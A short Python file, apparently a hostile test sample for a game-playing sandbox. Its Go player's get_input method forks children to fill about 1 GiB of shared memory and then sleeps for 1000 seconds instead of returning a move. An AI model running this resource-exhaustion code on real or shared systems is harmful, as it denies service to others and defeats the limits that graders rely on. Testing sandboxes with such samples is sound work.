"""Hoards memory in shared mappings that its children fill."""

import mmap
import os
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        hoard = []
        for _ in range(16):
            hoard.append(mmap.mmap(-1, 64 << 20))
            child = os.fork()
            if not child:
                for place in range(0, 64 << 20, 4096):
                    hoard[-1][place] = 1
                os._exit(0)
            os.waitpid(child, 0)
        time.sleep(1000)
